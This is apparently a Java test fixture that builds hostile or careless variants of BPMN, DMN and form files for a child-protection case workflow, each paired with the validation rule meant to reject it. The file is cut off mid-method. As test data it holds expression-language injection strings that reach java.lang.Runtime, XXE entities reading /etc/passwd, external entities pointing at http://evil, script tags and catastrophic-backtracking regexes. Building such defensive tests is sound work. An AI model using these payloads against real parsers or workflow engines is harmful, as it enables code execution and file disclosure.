package org.supportchain.modelgovernance;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Shipped files, each made hostile or careless in one way, with the rule that must notice. */
final class HostileModels {

    record Attempt(String what, ModelFiles files, Rule rule) {

        @Override
        public String toString() {
            return rule.id() + ": " + what;
        }
    }

    private static final List<String> MODELS = List.of(
            "care-plan.bpmn",
            "child-protection.bpmn",
            "counselling.bpmn",
            "reception.bpmn",
            "referral.bpmn",
            "support-chain.bpmn");

    private static final List<String> EXPRESSIONS = List.of(
            "${''.getClass().forName('java.lang.Runtime')}",
            "${child.class}",
            "${child['class']}",
            "${execution.setVariable('child', false)}",
            "${execution.processEngineServices}",
            "${execution.getVariable('child')}",
            "${dataSource.connection}",
            "${canary.sing()}",
            "#{canary.sing()}",
            "${${child}}",
            "${'${child}' == 'x'}",
            "a${child}b",
            "${child}${child}",
            "${child",
            "${deadlines.due(child)}",
            "${deadlines.due('C01').time}",
            "${deadlines.getClass()}",
            "${now()}",
            "${currentUser()}",
            "${execution}",
            "${closeCaseDelegate}",
            "${authenticatedUserId == 'x'}",
            "${child = false}",
            "${child ; true}",
            "${x -> x}",
            "${[1,2]}",
            "${{'a':1}}",
            "${T(java.lang.System)}",
            "${child ? deadlines : child}");

    private static final List<String> FOREIGN_CLASSES =
            List.of("camunda:class=\"org.example.Evil\"", "camunda:variableMappingClass=\"org.example.Evil\"");

    private final List<Attempt> attempts = new ArrayList<>();

    static List<Attempt> all() {
        HostileModels models = new HostileModels();
        models.expressions();
        models.elements();
        models.attributes();
        models.documents();
        models.cells();
        models.formParts();
        models.steps();
        models.ways();
        models.tables();
        return models.attempts;
    }

    private void expressions() {
        for (String expression : EXPRESSIONS) {
            String xml = expression
                    .replace("&", "&amp;")
                    .replace("<", "&lt;")
                    .replace(">", "&gt;")
                    .replace("\"", "&quot;");
            replace("support-chain.bpmn", "${planMedical}", xml, Rule.EXPRESSION);
            replace("escalation.bpmn", ">${deadlines.newDate(2)}<", ">" + xml + "<", Rule.EXPRESSION);
            replace(
                    "counselling.bpmn",
                    "camunda:dueDate=\"${deadlines.due('Y01')}\"",
                    "camunda:dueDate=\"" + xml + "\"",
                    Rule.EXPRESSION);
            replace(
                    "support-chain.bpmn",
                    "sourceExpression=\"${false}\"",
                    "sourceExpression=\"" + xml + "\"",
                    Rule.EXPRESSION);
            replace("escalation.bpmn", "\"${level1Groups}\"", "\"" + xml + "\"", Rule.EXPRESSION);
            replace("support-chain.bpmn", "#{execution.processBusinessKey}", xml, Rule.EXPRESSION);
            replace(
                    "support-chain.bpmn",
                    "${closeCaseDelegate}",
                    xml.equals("${closeCaseDelegate}") ? "${evil}" : xml,
                    Rule.VERB);
        }
        for (String sign : List.of("${canary.sing()}", "#{child}")) {
            Rule rule = Rule.EXPRESSION_PLACE;
            replace("support-chain.bpmn", "Close case · ", sign, rule);
            replace("support-chain.bpmn", "One person, one case", sign, rule);
            replace("support-chain.bpmn", "name=\"Msg_ThreatReported\"", "name=\"" + sign + "\"", rule);
            replace(
                    "support-chain.bpmn",
                    "escalationCode=\"Esc_PlanDecided\"",
                    "escalationCode=\"" + sign + "\"",
                    rule);
            replace("support-chain.bpmn", "calledElement=\"CarePlanProcess\"", "calledElement=\"" + sign + "\"", rule);
            replace("support-chain.bpmn", "\"Form_RecordReport\"", "\"" + sign + "\"", rule);
            replace("support-chain.bpmn", "name=\"step\" value=\"X17\"", "name=\"step\" value=\"" + sign + "\"", rule);
            replace(
                    "support-chain.bpmn",
                    "camunda:historyTimeToLive=\"P3650D\"",
                    "camunda:historyTimeToLive=\"" + sign + "\"",
                    rule);
            replace("support-chain.bpmn", "name=\"No · Không\"", "name=\"" + sign + "\"", rule);
            replace(
                    "support-chain.bpmn",
                    "source=\"riskLevel\" target=\"riskLevel\"",
                    "source=\"" + sign + "\" target=\"riskLevel\"",
                    rule);
            replace("child-protection.bpmn", ">PT12H<", ">" + sign + "<", rule);
            replace("child-protection.bpmn", "\"Decision_RiskLevel\"", "\"" + sign + "\"", rule);
            replace("deadlines.dmn", "<description>When each", "<description>" + sign, rule);
            replace("deadlines.dmn", "label=\"Step · Bước\"", "label=\"" + sign + "\"", rule);
            replace(
                    "risk-level.dmn",
                    "camunda:historyTimeToLive=\"P3650D\"",
                    "camunda:historyTimeToLive=\"" + sign + "\"",
                    rule);
        }
    }

    private void elements() {
        for (String model : MODELS) {
            into(
                    model,
                    "<bpmn:scriptTask id=\"Evil\" scriptFormat=\"javascript\"><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
                    Rule.SCRIPT);
            into(model, "<bpmn:task id=\"Evil\"/>", Rule.ELEMENT);
            into(model, "<bpmn:sendTask id=\"Evil\" camunda:class=\"E\"/>", Rule.ELEMENT);
            into(model, "<bpmn:dataObject id=\"Evil\"/>", Rule.ELEMENT);
            into(model, "<bpmn:adHocSubProcess id=\"Evil\"/>", Rule.ELEMENT);
            into(model, "<bpmn:transaction id=\"Evil\"/>", Rule.ELEMENT);
            into(model, "<bpmn:ioSpecification/>", Rule.ELEMENT);
            into(model, "stray words", Rule.STRAY_TEXT);
            extension(model, "<camunda:executionListener event=\"start\" class=\"org.example.Evil\"/>", Rule.LISTENER);
            extension(
                    model, "<camunda:executionListener event=\"end\" expression=\"${canary.sing()}\"/>", Rule.LISTENER);
            extension(
                    model, "<camunda:taskListener event=\"create\" delegateExpression=\"${canary}\"/>", Rule.LISTENER);
            extension(model, "<camunda:variableListener event=\"create\" class=\"org.example.Evil\"/>", Rule.LISTENER);
            extension(
                    model,
                    "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>",
                    Rule.CONNECTOR);
            extension(
                    model,
                    "<camunda:field name=\"x\"><camunda:expression>${canary}</camunda:expression></camunda:field>",
                    Rule.JAVA_CLASS);
            extension(model, "<camunda:formData><camunda:formField id=\"x\"/></camunda:formData>", Rule.FORM_KEY);
            extension(
                    model,
                    "<camunda:failedJobRetryTimeCycle>${canary.sing()}</camunda:failedJobRetryTimeCycle>",
                    Rule.ELEMENT);
            extension(model, "<camunda:errorEventDefinition id=\"e\" expression=\"${canary.sing()}\"/>", Rule.ELEMENT);
            extension(
                    model,
                    "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"javascript\" resource=\"http://evil\"/></camunda:inputParameter></camunda:inputOutput>",
                    Rule.SCRIPT);
            extension(
                    model,
                    "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:list><camunda:value>${canary}</camunda:value></camunda:list></camunda:inputParameter></camunda:inputOutput>",
                    Rule.ELEMENT);
            replaceFirst(
                    model,
                    "<bpmn:incoming>",
                    "<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"x\"/><bpmn:incoming>",
                    Rule.MULTI_INSTANCE);
        }
        replace(
                "support-chain.bpmn",
                "<bpmn:messageEventDefinition id=\"StartEvent_ThreatReportedMessage\" messageRef=\"Message_ThreatReported\"/>",
                "<bpmn:signalEventDefinition id=\"x\" signalRef=\"s\"/>",
                Rule.ELEMENT);
        replace(
                "support-chain.bpmn",
                "<bpmn:messageEventDefinition id=\"StartEvent_ThreatReportedMessage\" messageRef=\"Message_ThreatReported\"/>",
                "<bpmn:conditionalEventDefinition id=\"x\"><bpmn:condition>${canary.sing()}</bpmn:condition></bpmn:conditionalEventDefinition>",
                Rule.ELEMENT);
        replace(
                "child-protection.bpmn",
                "<bpmn:timeDuration xsi:type=\"bpmn:tFormalExpression\">PT12H</bpmn:timeDuration>",
                "<bpmn:timeCycle>R/PT1S</bpmn:timeCycle>",
                Rule.ELEMENT);
        replace(
                "support-chain.bpmn",
                "<camunda:in source=\"riskLevel\" target=\"riskLevel\"/>",
                "<camunda:in variables=\"all\"/>",
                Rule.CALL_VARIABLES);
    }

    private void attributes() {
        for (String element : List.of(
                "userTask",
                "serviceTask",
                "callActivity",
                "startEvent",
                "endEvent",
                "exclusiveGateway",
                "process",
                "boundaryEvent")) {
            for (String foreign : FOREIGN_CLASSES) {
                on(element, foreign, Rule.JAVA_CLASS);
            }
            on(element, "camunda:expression=\"${canary.sing()}\"", Rule.EXPRESSION_PLACE);
            on(element, "camunda:type=\"external\" camunda:topic=\"evil\"", Rule.EXTERNAL_TASK);
            on(element, "camunda:formKey=\"embedded:app:http://evil\"", Rule.FORM_KEY);
            on(element, "camunda:formKey=\"deployment:evil.html\"", Rule.FORM_KEY);
            on(element, "camunda:modelerTemplate=\"evil\"", Rule.TEMPLATE);
            on(element, "camunda:jobPriority=\"${canary.sing()}\"", Rule.ATTRIBUTE);
            on(element, "camunda:resource=\"classpath://evil\"", Rule.SCRIPT);
            on(element, "implementation=\"evil\"", Rule.ATTRIBUTE);
            on(
                    element,
                    "camunda:asyncBefore=\"${x}\"",
                    element.equals("process") ? Rule.ATTRIBUTE : Rule.EXPRESSION_PLACE);
        }
        on("userTask", "camunda:assignee=\"mallory\"", Rule.ATTRIBUTE);
        on("userTask", "camunda:candidateUsers=\"mallory\"", Rule.ATTRIBUTE);
        on("userTask", "camunda:followUpDate=\"${now()}\"", Rule.ATTRIBUTE);
        on("process", "camunda:candidateStarterGroups=\"all\"", Rule.ATTRIBUTE);
        on("callActivity", "camunda:calledElementTenantId=\"other\"", Rule.ATTRIBUTE);
        on("callActivity", "camunda:caseRef=\"x\"", Rule.ATTRIBUTE);
        replace(
                "support-chain.bpmn",
                "xsi:type=\"bpmn:tFormalExpression\">${planMedical}",
                "xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\">${planMedical}",
                Rule.SCRIPT);
        replace(
                "support-chain.bpmn",
                "xsi:type=\"bpmn:tFormalExpression\">${planMedical}",
                "xsi:type=\"evil\">${planMedical}",
                Rule.ATTRIBUTE);
        replace(
                "deadlines.dmn",
                "typeRef=\"boolean\"><text>",
                "typeRef=\"boolean\" expressionLanguage=\"javascript\"><text>",
                null);
        replace("risk-level.dmn", "hitPolicy=\"FIRST\"", "hitPolicy=\"FIRST\" evil=\"x\"", Rule.ATTRIBUTE);
    }

    private void documents() {
        String first = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>";
        for (String file : List.of("counselling.bpmn", "referral.bpmn", "risk-level.dmn", "deadlines.dmn")) {
            replaceFirst(file, first, first + "<!DOCTYPE x SYSTEM \"http://evil/x.dtd\">", Rule.DOCUMENT_TYPE);
            replaceFirst(
                    file,
                    first,
                    first + "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                    Rule.DOCUMENT_TYPE);
            replaceFirst(
                    file, first, first + "<!DOCTYPE x [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]>", Rule.DOCUMENT_TYPE);
            replaceFirst(
                    file, first, first + "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil\"> %p;]>", Rule.DOCUMENT_TYPE);
            replaceFirst(file, first, first + "<?xml-stylesheet href=\"http://evil\"?>", Rule.INSTRUCTION);
            replaceFirst(file, "version=\"1.0\"", "version=\"1.1\"", Rule.ENCODING);
            replaceFirst(file, "encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"", Rule.ENCODING);
            replaceFirst(file, " id=\"", " xmlns:evil=\"http://evil\" id=\"", Rule.NAMESPACE);
            replaceFirst(file, " id=\"", " xmlns:xi=\"http://www.w3.org/2001/XInclude\" id=\"", Rule.NAMESPACE);
            replaceFirst(file, "http://camunda.org/schema/1.0/", "http://activiti.org/", Rule.NAMESPACE);
            replaceFirst(file, " id=\"", " xml:base=\"http://evil\" id=\"", Rule.NAMESPACE);
            String text = ShippedModels.text(file);
            add(
                    file + " in UTF-16",
                    new ModelFiles(Map.of(file, text.getBytes(StandardCharsets.UTF_16))),
                    Rule.ENCODING);
            add(
                    file + " in Vietnamese 8 bit",
                    new ModelFiles(Map.of(file, text.getBytes(Charset.forName("windows-1258")))),
                    Rule.ENCODING);
            add(file + " cut", ShippedModels.one(file, text.substring(0, text.length() / 2)), Rule.NO_XML);
            add(file + " huge", ShippedModels.one(file, text + " ".repeat(SafeXml.MOST_BYTES)), Rule.TOO_LARGE);
            add(
                    file + " deep",
                    ShippedModels.one(
                            file,
                            text.replaceFirst("(?s)<(bpmn:process|decision) .*", "")
                                    + (file.endsWith("bpmn") ? "<bpmn:x>" : "<x>").repeat(100)),
                    Rule.TOO_LARGE);
            add(file + " under another name", ShippedModels.one(file + ".js", text), Rule.FILE_KIND);
        }
        for (String name :
                List.of("x.html", "x.groovy", "x.js", "x.cmmn", "x.bpmn20.xml", "x.dmn11.xml", "x.class", "x")) {
            add(name, ShippedModels.one(name, "x"), Rule.FILE_KIND);
        }
    }

    private void cells() {
        for (String cell : List.of(
                "\"PT24H${x}\"",
                "new java.lang.Object()",
                "canary.sing()",
                "date and time(\"x\")",
                "if true then 1 else 2",
                "\"a\" + \"b\"",
                "#{x}",
                "function() 1",
                "java.lang.System.exit(1)",
                "\"a\\u0022\"",
                "x",
                "'a'")) {
            Rule rule = cell.contains("{") ? Rule.EXPRESSION_PLACE : Rule.TABLE_CELL;
            replaceFirst("deadlines.dmn", "<text>\"PT24H\"</text>", "<text>" + cell + "</text>", rule);
            replaceFirst(
                    "risk-level.dmn",
                    "<text>threat</text>",
                    "<text>" + (cell.equals("x") ? "x.y" : cell) + "</text>",
                    rule);
            replaceFirst("risk-level.dmn", "<text>[1..2]</text>", "<text>" + cell + "</text>", rule);
        }
        replaceFirst(
                "risk-level.dmn",
                "<decisionTable",
                "<literalExpression><text>1</text></literalExpression><decisionTable",
                Rule.ELEMENT);
        replaceFirst("risk-level.dmn", "<decisionTable", "<invocation/><decisionTable", Rule.ELEMENT);
        replaceFirst("risk-level.dmn", "<decisionTable", "<context/><decisionTable", Rule.ELEMENT);
    }

    private void formParts() {
        for (String file : List.of("counsel-individually.form", "assess-child-rapidly.form", "approve-closure.form")) {
            for (String type : List.of(
                    "html",
                    "iframe",
                    "expression",
                    "script",
                    "button",
                    "image",
                    "filepicker",
                    "dynamiclist",
                    "table",
                    "documentPreview")) {
                component(file, "{\"type\":\"" + type + "\",\"id\":\"Evil\"}", Rule.FORM_COMPONENT);
            }
            for (String part : List.of(
                    "\"valuesExpression\":\"=x\"",
                    "\"valuesKey\":\"x\"",
                    "\"url\":\"http\"",
                    "\"source\":\"x\"",
                    "\"onClick\":\"x\"",
                    "\"expression\":\"=x\"")) {
                component(
                        file,
                        "{\"type\":\"radio\",\"key\":\"evil\",\"label\":\"A · B\"," + part + "}",
                        Rule.FORM_PROPERTY);
            }
            for (String text : List.of("=context.secret", "{{#if x}}", "{{loop x}}", "${canary}", "#{x}")) {
                component(file, "{\"type\":\"text\",\"id\":\"Evil\",\"text\":\"" + text + "\"}", Rule.FORM_EXPRESSION);
                component(
                        file,
                        "{\"type\":\"textfield\",\"key\":\"evil\",\"label\":\"" + text + "\"}",
                        Rule.FORM_EXPRESSION);
            }
            for (String hide : List.of(
                    "=get value(x)",
                    "x",
                    "=for i in [1] return i",
                    "=a = b",
                    "={}",
                    "=true",
                    "=string(x) = \\\"1\\\"",
                    "=@ and @")) {
                component(
                        file,
                        "{\"type\":\"text\",\"id\":\"Evil\",\"text\":\"A\",\"conditional\":{\"hide\":\"" + hide
                                + "\"}}",
                        Rule.FORM_EXPRESSION);
            }
            for (String text : List.of(
                    "<img src=x>",
                    "<script>1</script>",
                    "[a](http://evil)",
                    "![a](x)",
                    "javascript:alert",
                    "http://evil",
                    "&#60;b",
                    "< b>")) {
                component(file, "{\"type\":\"text\",\"id\":\"Evil\",\"text\":\"" + text + "\"}", Rule.FORM_MARKUP);
            }
            for (String pattern : List.of("(a+)+$", "(.*)*", "a*a*a*a*b", ".+", "(?<x>a)", "\\\\1", "[a-z")) {
                component(
                        file,
                        "{\"type\":\"textfield\",\"key\":\"evil\",\"label\":\"A · B\",\"validate\":{\"pattern\":\""
                                + pattern + "\"}}",
                        Rule.FORM_PATTERN);
            }
            String field = "\"key\":\"evil\",\"label\":\"A · B\",\"properties\":";
            String good = "{\"class\":\"CASEWORK\",\"purpose\":\"CASE_MANAGEMENT\"}";
            component(file, "{\"type\":\"textfield\"," + field + "{\"route\":\"true\"}}", Rule.FORM_ROUTE);
            component(file, "{\"type\":\"checklist\"," + field + "{\"route\":\"true\"}}", Rule.FORM_ROUTE);
            component(file, "{\"type\":\"radio\"," + field + "{\"route\":\"true\"}}", Rule.FORM_ROUTE);
            component(file, "{\"type\":\"textfield\"," + field + "{\"purpose\":\"CASE_MANAGEMENT\"}}", Rule.FORM_FIELD);
            component(file, "{\"type\":\"textfield\"," + field + "{\"class\":\"CASEWORK\"}}", Rule.FORM_FIELD);
            component(
                    file,
                    "{\"type\":\"textfield\"," + field + "{\"class\":\"GOSSIP\",\"purpose\":\"CASE_MANAGEMENT\"}}",
                    Rule.FORM_FIELD);
            component(
                    file,
                    "{\"type\":\"textarea\"," + field + good + ",\"validate\":{\"required\":true,\"maxLength\":20000}}",
                    Rule.FORM_STORY);
            component(
                    file,
                    "{\"type\":\"textfield\",\"key\":\"evil\",\"label\":\"English only\",\"properties\":" + good + "}",
                    Rule.FORM_LABEL);
            component(
                    file,
                    "{\"type\":\"checkbox\",\"key\":\"child\",\"label\":\"A · B\",\"properties\":{\"route\":\"true\"}}",
                    Rule.CHILD_FACT);
            replaceFirst(file, "\"id\" : \"Form_", "\"id\" : \"Form_X", null);
            add(file + " cut", ShippedModels.one(file, ShippedModels.text(file).substring(9)), Rule.FORM_READABLE);
            add(
                    file + " twice",
                    ShippedModels.one(file, ShippedModels.text(file).replaceFirst("\\{", "{\"components\":[],")),
                    Rule.FORM_READABLE);
        }
    }

    /** Every user task of some models, robbed of each of its protections in turn. */
    private void steps() {
        for (String model : MODELS) {
            String text = ShippedModels.text(model);
            Matcher task = Pattern.compile(
                            "<bpmn:userTask id=\"(\\w+)\" name=\"([^\"]+)\" camunda:formRef=\"(\\w+)\"[^>]*>")
                    .matcher(text);
            while (task.find()) {
                String opening = task.group();
                String id = task.group(1);
                replace(
                        model,
                        opening,
                        opening.replaceFirst("name=\"[^\"]+\"", "name=\"English only\""),
                        Rule.STEP_NAME);
                replace(model, opening, opening.replace(task.group(3), "Form_Missing"), Rule.STEP_FORM);
                replace(model, opening, opening.replace("\"deployment\"", "\"latest\""), Rule.STEP_FORM);
                replace(
                        model,
                        opening,
                        opening.replaceFirst("candidateGroups=\"[^\"]+\"", "candidateGroups=\"everybody\""),
                        Rule.STEP_GROUP);
                replace(
                        model,
                        opening,
                        opening.replaceFirst("candidateGroups=\"[^\"]+\"", "candidateGroups=\"auditors\""),
                        Rule.STEP_GROUP);
                replace(
                        model,
                        opening,
                        opening.replaceFirst(" camunda:candidateGroups=\"[^\"]+\"", ""),
                        Rule.STEP_GROUP);
                replace(model, opening, opening.replaceFirst("due\\('\\w+'\\)", "due('Z77')"), Rule.STEP_DUE);
                replace(model, opening, opening.replaceFirst(" camunda:dueDate=\"[^\"]+\"", ""), Rule.STEP_DUE);
                Matcher timer = Pattern.compile(
                                "<bpmn:boundaryEvent id=\"\\w+\" name=\"Overdue[^>]*attachedToRef=\"" + id
                                        + "\"[^>]*>.*?</bpmn:boundaryEvent>",
                                Pattern.DOTALL)
                        .matcher(text);
                if (timer.find()) {
                    String event = timer.group();
                    replace(model, event, event.replace(" cancelActivity=\"false\"", ""), Rule.TIMER_INTERRUPTS);
                    replace(
                            model,
                            event,
                            event.replace("cancelActivity=\"false\"", "cancelActivity=\"true\""),
                            Rule.TIMER_INTERRUPTS);
                    replace(model, event, event.replaceFirst("due\\('\\w+'\\)", "due('Z77')"), Rule.STEP_TIMER);
                    replace(model, event, "", Rule.STEP_TIMER);
                }
            }
        }
    }

    private void ways() {
        for (String model : MODELS) {
            replaceFirst(model, "isExecutable=\"true\"", "isExecutable=\"false\"", Rule.NOT_EXECUTABLE);
            replaceFirst(model, " camunda:historyTimeToLive=\"P3650D\"", "", Rule.HISTORY);
            replaceFirst(
                    model, "camunda:historyTimeToLive=\"P3650D\"", "camunda:historyTimeToLive=\"P1D\"", Rule.HISTORY);
            replaceFirst(model, "(<bpmn:process id=\"\\w+)", "$1X", Rule.PROCESS_ID);
            replaceFirst(model, "(<bpmn:process id=\"\\w+\" name=\")[^\"]+", "$1English", Rule.PROCESS_NAME);
            replaceFirst(model, "<camunda:in businessKey=\"#\\{execution.processBusinessKey}\"/>", "", Rule.CALL_KEY);
            replaceFirst(
                    model, "calledElement=\"EscalationProcess\"", "calledElement=\"NowhereProcess\"", Rule.CALL_TARGET);
            replaceFirst(
                    model,
                    "calledElement=\"EscalationProcess\"",
                    "calledElement=\"ReferralProcess\"",
                    Rule.STEP_ESCALATES);
            replaceFirst(model, "<camunda:in source=\"stalledTask\" target=\"stalledTask\"/>", "", Rule.STEP_ESCALATES);
            replaceFirst(
                    model,
                    "escalationCode=\"Esc_DeadlineMissed\"",
                    "escalationCode=\"Esc_Other\"",
                    Rule.STEP_ESCALATES);
            replaceFirst(model, "<bpmn:escalationEventDefinition id=\"EndEvent[^>]*/>", "", Rule.STEP_ESCALATES);
            replaceFirst(
                    model,
                    "(id=\"StartEvent_\\w+DeadlineMissed\" name=\"[^\"]+\") isInterrupting=\"false\"",
                    "$1",
                    Rule.INTERRUPTS);
            replaceFirst(
                    model, "targetRef=\"(EndEvent_(?!\\w*Escalated)\\w+)\"", "targetRef=\"Nowhere\"", Rule.REFERENCE);
            into(model, "<bpmn:userTask id=\"Task_Lonely\" name=\"A · B\"/>", Rule.UNREACHED);
            into(
                    model,
                    "<bpmn:exclusiveGateway id=\"Gateway_Spin\"/><bpmn:sequenceFlow id=\"Spin1\" sourceRef=\"Gateway_Spin\" targetRef=\"Gateway_Spin\"/>",
                    Rule.ENDLESS_LOOP);
            into(
                    model,
                    "<bpmn:startEvent id=\"S9\"/><bpmn:sequenceFlow id=\"F9\" sourceRef=\"S9\" targetRef=\"G9\"/><bpmn:exclusiveGateway id=\"G9\"/>",
                    Rule.DEAD_END);
            into(
                    model,
                    "<bpmn:startEvent id=\"S9\"/><bpmn:sequenceFlow id=\"F9\" sourceRef=\"S9\" targetRef=\"E9\"/><bpmn:endEvent id=\"E9\"><bpmn:terminateEventDefinition/></bpmn:endEvent>",
                    Rule.TERMINATES);
            replaceFirst(
                    model,
                    "<bpmn:exclusiveGateway ([^>]*) default=\"\\w+\">",
                    "<bpmn:exclusiveGateway $1>",
                    Rule.NO_DEFAULT);
            replaceFirst(model, "\\$\\{(\\w+) == ", "\\${somethingUnknown == ", null);
        }
        String chain = "support-chain.bpmn";
        replace(chain, "${!child}", "${firstPlan}", Rule.CHILD_BYPASS);
        replace(chain, "${!child}", "${child}", Rule.CHILD_BYPASS);
        replace(
                chain,
                "default=\"SequenceFlow_ChildOrAgeUnknownYes\"",
                "default=\"SequenceFlow_ChildOrAgeUnknownNo\"",
                Rule.CHILD_BYPASS);
        replaceFirst(
                chain,
                "targetRef=\"CallActivity_ChildProtection\"",
                "targetRef=\"Gateway_EverythingAnswered\"",
                Rule.CHILD_BYPASS);
        replaceFirst(
                chain,
                "name=\"Protect child · Bảo vệ trẻ em\" calledElement=\"ChildProtectionProcess\"",
                "name=\"Protect child · Bảo vệ trẻ em\" calledElement=\"CarePlanProcess\"",
                Rule.CHILD_BYPASS);
        replace(
                chain,
                "targetRef=\"Gateway_ReceiveProtectIdentify\"",
                "targetRef=\"CallActivity_Reception\"",
                Rule.CHILD_BYPASS);
        replace(
                chain,
                "<camunda:out source=\"victimStatus\" target=\"victimStatus\"/>",
                "<camunda:out source=\"victimStatus\" target=\"child\"/>",
                Rule.CHILD_FACT);
        replace(
                chain,
                "sourceExpression=\"${false}\" target=\"firstPlan\"",
                "sourceExpression=\"${false}\" target=\"child\"",
                Rule.CHILD_FACT);
        replaceFirst(
                chain,
                "<camunda:in source=\"child\" target=\"child\"/>",
                "<camunda:in sourceExpression=\"${false}\" target=\"child\"/>",
                Rule.CHILD_FACT);
        replace(
                chain,
                "sourceRef=\"Gateway_EverythingAnswered\" targetRef=\"Task_CloseCase\"",
                "sourceRef=\"Gateway_EverythingAnswered\" targetRef=\"EndEvent_LoopClosed\"",
                Rule.CLOSING_CHECK);
        replace(chain, "${closeCaseDelegate}", "${checkLoopDelegate}", Rule.CLOSING_CHECK);
        replace(
                chain,
                "sourceRef=\"Gateway_LoopClosed\" targetRef=\"Gateway_BackToPlan\"",
                "sourceRef=\"Gateway_LoopClosed\" targetRef=\"Gateway_EverythingAnswered\"",
                Rule.CLOSING_CHECK);
        replace(chain, "messageRef=\"Message_ThreatReported\"", "messageRef=\"Message_Nothing\"", Rule.MESSAGE);
        replace(chain, "name=\"Msg_ThreatReported\"", "name=\"Msg_Invented\"", Rule.MESSAGE);
        replace(
                chain,
                "name=\"Threat reported · Có mối đe doạ\" isInterrupting=\"false\"",
                "name=\"Threat reported · Có mối đe doạ\"",
                Rule.INTERRUPTS);
        replace("reception.bpmn", "Msg_StayEnded", "Msg_ThreatReported", Rule.INTERRUPTS);
        replace(chain, "escalationCode=\"Esc_PlanDecided\"", "escalationCode=\"Esc_PlanMade\"", Rule.ESCALATION);
        replace(
                "child-protection.bpmn",
                "targetRef=\"Task_RegisterChild\"",
                "targetRef=\"Gateway_ProtectInParallel\"",
                Rule.CHILD_STEPS);
        replace(
                "child-protection.bpmn",
                "name=\"step\" value=\"C02\"",
                "name=\"step\" value=\"C03\"",
                Rule.CHILD_STEPS);
        replaceFirst(
                "child-protection.bpmn",
                "\\$\\{ageDecision == 'ADULT'}",
                "\\${ageDecision != 'CHILD'}",
                Rule.TERMINATES);
        replace("child-protection.bpmn", ">PT12H<", ">PT0H<", Rule.WAIT);
        replace("child-protection.bpmn", ">PT12H<", ">P1D<", Rule.WAIT);
        replace("child-protection.bpmn", "\"Decision_RiskLevel\"", "\"Decision_Missing\"", Rule.REFERENCE);
        replace("escalation.bpmn", "${callLevel2Delegate}", "${callLevel3Delegate}", Rule.STEP_ESCALATES);
        replace("escalation.bpmn", "${callLevel1Delegate}", "${callLevel2Delegate}", Rule.STEP_ESCALATES);
        replace("escalation.bpmn", "value=\"X01b\"", "value=\"X01c\"", Rule.LADDER);
        replace("follow-up.bpmn", "${checkLoopDelegate}", "${endStayDelegate}", Rule.CLOSING_CHECK);
        into(
                "counselling.bpmn",
                "<bpmn:endEvent id=\"EndEvent_X\"/><bpmn:endEvent id=\"EndEvent_X\"/>",
                Rule.ELEMENT_ID);
    }

    private void tables() {
        replace("counselling.bpmn", "name=\"step\" value=\"Y01\"", "name=\"step\" value=\"\"", Rule.STEP_CODE);
        replace("support-chain.bpmn", "${planMedical}", "${planUnknown}", Rule.FACT_KNOWN);
        replace("support-chain.bpmn", "${!child}", "${!grownUp}", Rule.FACT_KNOWN);
        replaceFirst("approve-closure.form", "\"Form_ApproveClosure\"", "\"Form_PlanSupport\"", Rule.FORM_ID);
        row("C02", "\"PT24H\"", "\"PT25H\"", Rule.CHILD_TERM);
        row("C02", "\"PT24H\"", "\"PT1441M\"", Rule.CHILD_TERM);
        row("C02", "\"PT24H\"", "\"P1D\"", Rule.DEADLINE_TERM);
        row("C02", "\"ARRIVED\"", "\"STEP\"", Rule.CHILD_TERM);
        row("C02", "\"24/7\"", "\"WORKING_DAYS\"", Rule.CHILD_TERM);
        row("C02", "false", "true", Rule.CHILD_TERM);
        row("C02", "false", "", Rule.CHILD_TERM);
        row("C02", "\"E-CHI\"", "\"E-PSY\"", Rule.CHILD_TERM);
        row("C02", "<text></text>", "<text>true</text>", Rule.DEADLINE_ROW);
        row("C02", "\"C02\"", "\"C09\"", Rule.DEADLINE_ROW);
        row("C02", "\"C02\"", "\"C02\",\"C03\"", Rule.DEADLINE_TERM);
        row("C02", "\"C02\"", "", Rule.DEADLINE_TERM);
        row("C01", "\"PT2H\"", "\"PT100H\"", Rule.CHILD_TERM);
        row("C03", "false", "true", Rule.CHILD_PAUSE);
        row("A01", "\"24/7\"", "\"SOMETIMES\"", null);
        row("C05", "\"P5D\"", "\"PT5H\"", Rule.DEADLINE_TERM);
        row("C05", "\"E-CHI\"", "\"E-NONE\"", Rule.DEADLINE_TERM);
        row("C05", "\"STEP\"", "\"BIRTH\"", Rule.DEADLINE_TERM);
        row("C05", "\"Decree 56/2017 art. 28: 5 working days\"", "\"\"", Rule.TABLE_SOURCE);
        replaceFirst("deadlines.dmn", "hitPolicy=\"FIRST\"", "hitPolicy=\"COLLECT\"", Rule.TABLE_SHAPE);
        replaceFirst("deadlines.dmn", "name=\"duration\"", "name=\"length\"", Rule.TABLE_SHAPE);
        replaceFirst("deadlines.dmn", "<text>child</text>", "<text>risk</text>", Rule.TABLE_SHAPE);
        replaceFirst(
                "deadlines.dmn",
                "<decision id=\"Decision_Deadlines\"",
                "<decision id=\"Decision_Other\"",
                Rule.PROCESS_ID);
        replaceFirst(
                "deadlines.dmn",
                "camunda:historyTimeToLive=\"P3650D\"",
                "camunda:historyTimeToLive=\"P2D\"",
                Rule.HISTORY);
        replaceFirst("escalation-ladder.dmn", "<text>3</text>", "<text>4</text>", Rule.LADDER);
        replaceFirst("escalation-ladder.dmn", "\"supervisors\"", "\"nobody\"", Rule.LADDER);
        replaceFirst("escalation-ladder.dmn", "\"PT2H\"", "\"some time\"", Rule.LADDER);
        replaceFirst("pause-reasons.dmn", "\"PT168H\"", "\"P7D\"", Rule.DEADLINE_TERM);
    }

    /** In the first row of a step. */
    private void row(String step, String old, String changed, Rule rule) {
        Matcher row = Pattern.compile(
                        "<rule id=\"[^\"]+\">(?:(?!</rule>).)*<text>\"" + step + "\"</text>.*?</rule>", Pattern.DOTALL)
                .matcher(ShippedModels.text("deadlines.dmn"));
